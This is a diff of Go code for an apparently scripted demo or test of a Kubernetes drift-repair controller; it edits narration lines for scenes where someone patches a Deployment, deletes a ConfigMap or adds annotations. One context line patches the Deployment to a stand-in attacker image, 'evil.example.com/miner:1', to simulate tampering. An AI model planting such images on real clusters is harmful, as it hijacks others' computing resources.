@@ -27,7 +27,7 @@ func (s *stage) repairImage(ctx context.Context) error {
 		return err
 	}
 	want := imageOf(before)
-	s.tell.say("Somebody gives the Deployment another image, with kubectl's own kind of patch.")
+	s.tell.say("Somebody gives the Deployment another image, as kubectl edit would.")
 	patch := `{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"evil.example.com/miner:1"}]}}}}`
 	after, err := s.in(deployments).Patch(ctx, shop, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{FieldManager: person})
 	if err != nil {
@@ -50,7 +50,7 @@ func (s *stage) repairDeleted(ctx context.Context) error {
 	if err != nil {
 		return err
 	}
-	s.tell.say("Somebody deletes ConfigMap %s.", name)
+	s.tell.say("\nSomebody deletes ConfigMap %s.", name)
 	if err := s.in(configMaps).Delete(ctx, name, metav1.DeleteOptions{}); err != nil {
 		return err
 	}
@@ -72,7 +72,7 @@ func (s *stage) repairDeleted(ctx context.Context) error {
 // come in order.
 func (s *stage) leaveAlone(ctx context.Context) error {
 	const name = "bakery-welcome"
-	s.tell.say("Somebody adds an annotation and a key of their own to ConfigMap %s, and changes its title.", name)
+	s.tell.say("\nSomebody adds an annotation and a key of their own to ConfigMap %s, and changes its title.", name)
 	for _, patch := range []string{
 		`{"metadata":{"annotations":{"tools.example.com/note":"reviewed"}},"data":{"note":"mine"}}`, `{"data":{"title":"Mine now"}}`,
 	} {
